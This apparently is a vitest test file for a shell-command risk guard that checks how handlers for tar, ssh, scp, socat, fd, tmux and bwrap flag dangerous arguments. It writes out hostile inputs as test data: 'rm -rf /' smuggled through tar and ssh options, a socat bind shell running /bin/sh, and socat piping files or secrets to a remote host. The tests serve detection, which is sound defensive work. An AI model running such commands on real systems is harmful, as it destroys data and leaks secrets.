import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { parse } from 'yaml';
import { parseArguments } from '../../../../src/guards/risk/programs/arguments.ts';
import { handle as bwrap } from '../../../../src/guards/risk/programs/bwrap.ts';
import type { Engine, Handler, Stream } from '../../../../src/guards/risk/programs/engine.ts';
import { handle as fd } from '../../../../src/guards/risk/programs/fd.ts';
import { handle as socat } from '../../../../src/guards/risk/programs/socat.ts';
import { handle as ssh } from '../../../../src/guards/risk/programs/ssh.ts';
import { handle as tar } from '../../../../src/guards/risk/programs/tar.ts';
import { handle as tmux } from '../../../../src/guards/risk/programs/tmux.ts';
import { HOLE, known } from '../../../../src/guards/risk/shell/value.ts';
import { programsSchema } from '../../../../src/registry/commands.ts';

const HANDLERS: Readonly<Record<string, Handler>> = { bwrap, fd, socat, ssh, tar, tmux };

const programs = ['archives', 'copying', 'files', 'launchers', 'transfer', 'wrappers'].flatMap((area) =>
  programsSchema.parse(parse(readFileSync(`registry/commands/${area}.yaml`, 'utf8'))),
);

/** What the handler of a command says, as short lines. */
function heard(words: readonly string[], stdin: Stream | null = null): string[] {
  const [name = '', ...texts] = words;
  const program = programs.find((entry) => entry.programs.includes(name));
  const handler = HANDLERS[program?.handler ?? ''];
  if (program === undefined || handler === undefined) throw new Error(`no handler for ${name}`);
  const said: string[] = [];
  const say = (line: string): Stream => {
    said.push(line.replaceAll(HOLE, '?'));
    return known('');
  };
  const text = (parts: readonly { text: string }[]): string => parts.map((part) => part.text).join(' ');
  const engine = {
    found: (what) =>
      void say([what.kind, what.path?.text ?? what.resource, what.level].filter(Boolean).join(' ')),
    remark: (rule, level) => void say(`${rule} ${level}`),
    command: (argv) => say(`runs ${text(argv)}`),
    code: (language, code, options) =>
      say(`${options?.elsewhere === true ? 'elsewhere ' : ''}${language} ${code.text}`),
    written: () => null,
    content: () => known(''),
    follow: () => null,
    wrote: (path, content) => void say(`wrote ${path.text} from ${content.from}`),
    linked: () => undefined,
    copied: () => undefined,
    requests: [],
    elevated: false,
    protectedServices: [],
    sets: () => false,
    rebuilds: () => false,
    resolve: () => null,
    inRoots: () => false,
  } satisfies Partial<Engine>;
  const args = texts.map((word) => known(word));
  const parsed = parseArguments(args, program.options);
  handler({ program, name, args, parsed, stdin, source: words.join(' ') }, engine);
  return said;
}

const CASES: readonly (readonly [string[], string[]])[] = [
  [
    ['tar', 'xzf', 'a.tgz', '-C', '/srv'],
    ['read a.tgz', 'overwrite /srv MEDIUM'],
  ],
  [
    ['tar', 'cIf', 'rm -rf /', '-', 'src'],
    ['shell rm -rf /', 'read src'],
  ],
  [['tar', '-cI', 'rm -rf /', '-f', '-'], ['shell rm -rf /']],
  [
    ['tar', '-cf', 'host:/a.tar', 'b'],
    ['exfiltration host:/a.tar HIGH', 'read b'],
  ],
  [
    ['tar', '--force-local', '-cf', 'a:b.tar', 'c'],
    ['read c', 'overwrite a:b.tar'],
  ],
  [
    ['tar', '-cf', 'a.tar', '--remove-files', 'src'],
    ['read src', 'delete src', 'overwrite a.tar'],
  ],
  [
    ['tar', 'cf', 'a.tar', '--checkpoint=1', '--checkpoint-action=exec=sh x', 'b'],
    ['shell sh x', 'exec exec=sh x HIGH', 'read b', 'overwrite a.tar'],
  ],
  [
    ['tar', 'xPf', 'a.tar'],
    ['read a.tar', 'overwrite . MEDIUM', 'write ?'],
  ],
  [['tar', 'xOf', 'a.tar'], ['read a.tar']],
  [['tar', '-C', '/etc', '-czf', '-', 'ssl'], ['read /etc/ssl']],
  [['tar', 'tvf', 'a.tar'], ['read a.tar']],
  [['tar', '--help', '-xf', 'a.tar'], []],
  [['ssh', '-voProxyCommand=rm -rf /', 'h'], ['shell rm -rf /']],
  [['ssh', '-o', 'localcommand rm x', 'h'], ['shell rm x']],
  [['ssh', '-oProxyCommand=none', '-o', 'User=x', 'h'], []],
  [['ssh', '-o', 'RemoteCommand=rm x', 'h'], ['elsewhere shell rm x']],
  [['scp', '-o', 'PKCS11Provider=./x.so', 'a', 'h:'], ['ssh-library HIGH']],
  [
    ['scp', 'h:/a/x.sh', '.'],
    ['wrote . from 1', 'wrote ./x.sh from 1'],
  ],
  [['rsync', '-a', 'x', 'h:'], []],
  [['rsync', '-n', 'h:x', 'y'], []],
  [
    ['socat', 'TCP-LISTEN:1', 'EXEC:/bin/sh,pty'],
    ['network MEDIUM', 'shell /bin/sh', 'exec /bin/sh CRITICAL'],
  ],
  [['socat', '-', 'exec:ls -l'], ['shell ls -l']],
  [
    ['socat', '-u', 'OPEN:k,chdir=src', 'CREAT:copy!!tcp:h:1'],
    ['network MEDIUM', 'read src/k', 'exfiltration src/k HIGH', 'overwrite copy'],
  ],
  [['socat', 'stdio', '/run/x.sock'], []],
  [['fd', '-e', 'pyc', '-x', 'rm', '-f'], ['runs rm -f ?']],
  [['fd', '.', '-X', 'sh', '-c', 'rm {}', ';', '-H'], ['runs sh -c rm ?']],
  [['fd', '-t', 'f', '--exec=wc'], ['runs wc ?']],
  [['fd', '--hidden', 'x'], []],
  [['tmux', 'new-session', '-d', '-s', 'a', 'rm -rf x'], ['shell rm -rf x']],
  [['tmux', 'new', '-d', 'rm', '-rf', 'x'], ['runs rm -rf x']],
  [['tmux', 'send-keys', '-t', '0', 'rm -rf x', 'Enter'], ['shell rm -rf x']],
  [['tmux', 'new', '-d', ';', 'run-shell', 'rm x'], ['shell rm x']],
  [['tmux', 'attach', '-t', 'a'], []],
  [['bwrap', '--ro-bind', '/', '/', '--unshare-all', '--chdir', '/x', 'rm', '-rf', 'y'], ['runs rm -rf y']],
  [['bwrap', '--bind', '/', '/', '--', 'rm', 'x'], ['runs rm x']],
  [['bwrap', '--help'], []],
];

test.each(CASES)('%j', (words, said) => {
  expect(heard(words)).toEqual(said);
});

test('what is piped into a connection leaves the machine', () => {
  expect(heard(['socat', '-', 'TCP:h:1'], known('secret'))).toEqual([
    'network MEDIUM',
    'exfiltration secret MEDIUM',
  ]);
});
